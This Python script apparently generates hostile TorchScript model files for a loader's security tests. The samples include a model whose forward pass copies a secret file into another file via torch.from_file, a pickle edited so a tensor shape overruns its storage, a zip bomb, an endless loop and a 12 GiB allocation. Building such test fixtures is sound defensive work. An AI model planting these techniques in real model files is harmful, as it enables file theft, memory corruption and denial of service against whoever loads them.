#!/usr/bin/env python3
"""Makes the hostile suspect files of tests/hostile_test.cc, the way an
attacker would: TorchScript models made with Python PyTorch whose code or
archive attacks the process that loads them.

usage: make_hostile.py --out DIR --secret FILE --stolen FILE

Writes into DIR:
  from_file.pt   forward copies 4 KiB of --secret into --stolen (torch.from_file)
    bad_shape.pt   a parameter whose declared shape exceeds its storage (data.pkl edited)
  loop.pt        forward never returns
  zip_bomb.pt    a small archive whose data.pkl inflates to 4 GiB
  fill.pt        forward allocates 12 GiB
"""
import argparse
import os
import zipfile

import torch
from torch import nn


class Mlp(nn.Module):
    """The input and output shapes of the tests' Fashion-MNIST models."""

    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(784, 10)

    def forward(self, x):
        return self.fc(x.flatten(1))


class FromFile(Mlp):
    def __init__(self, secret: str, stolen: str):
        super().__init__()
        self.secret = secret
        self.stolen = stolen

    def forward(self, x):
        source = torch.from_file(self.secret, shared=False, size=4096, dtype=torch.uint8)
        target = torch.from_file(self.stolen, shared=True, size=4096, dtype=torch.uint8)
        target.copy_(source)
        return self.fc(x.flatten(1)) + 0 * source.sum()


class Loop(Mlp):
    def forward(self, x):
        y = x.flatten(1)
        while bool(y.sum() > -1.0):
            y = y + 1.0
        return self.fc(y)


class Fill(Mlp):
    def forward(self, x):
        big = torch.ones(3 * 1024 * 1024 * 1024)  # 12 GiB of float32
        return self.fc(x.flatten(1)) + big[0]


def rewrite_archive(path, replace):
    """Copies the zip at `path`, letting `replace(name, data)` change entries."""
    tmp = path + ".tmp"
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(tmp, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            replace(dst, info, src.read(info.filename))
    os.replace(tmp, path)


def make_bad_shape(path):
    torch.jit.script(Mlp()).save(path)

    def enlarge_weight(dst, info, data):
        # data.pkl (pickle protocol 2, no frames) rebuilds fc.weight with the
        # size tuple (10, 784): BININT1 10, BININT2 784. Declare (10, 1000000)
        # instead: far past the 7840 floats its storage holds.
        if info.filename.endswith("/data.pkl"):
            size = b"K\x0aM\x10\x03"
            assert size in data, "no (10, 784) size tuple in data.pkl"
            data = data.replace(size, b"K\x0aJ" + (1000000).to_bytes(4, "little"), 1)
        dst.writestr(info, data)

    rewrite_archive(path, enlarge_weight)


def make_zip_bomb(path, inflated=4 << 30):
    torch.jit.script(Mlp()).save(path)
    chunk = bytes(64 << 20)

    def inflate_pickle(dst, info, data):
        if not info.filename.endswith("/data.pkl"):
            dst.writestr(info, data)
            return
        bomb = zipfile.ZipInfo(info.filename, date_time=info.date_time)
        bomb.compress_type = zipfile.ZIP_DEFLATED
        with dst.open(bomb, "w", force_zip64=True) as out:
            for _ in range(inflated // len(chunk)):
                out.write(chunk)

    rewrite_archive(path, inflate_pickle)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--out", required=True)
    parser.add_argument("--secret", required=True)
    parser.add_argument("--stolen", required=True)
    args = parser.parse_args()
    os.makedirs(args.out, exist_ok=True)
    torch.manual_seed(0)
    torch.jit.script(FromFile(args.secret, args.stolen)).save(
        os.path.join(args.out, "from_file.pt"))
    make_bad_shape(os.path.join(args.out, "bad_shape.pt"))
    torch.jit.script(Loop()).save(os.path.join(args.out, "loop.pt"))
    make_zip_bomb(os.path.join(args.out, "zip_bomb.pt"))
    torch.jit.script(Fill()).save(os.path.join(args.out, "fill.pt"))


if __name__ == "__main__":
    main()
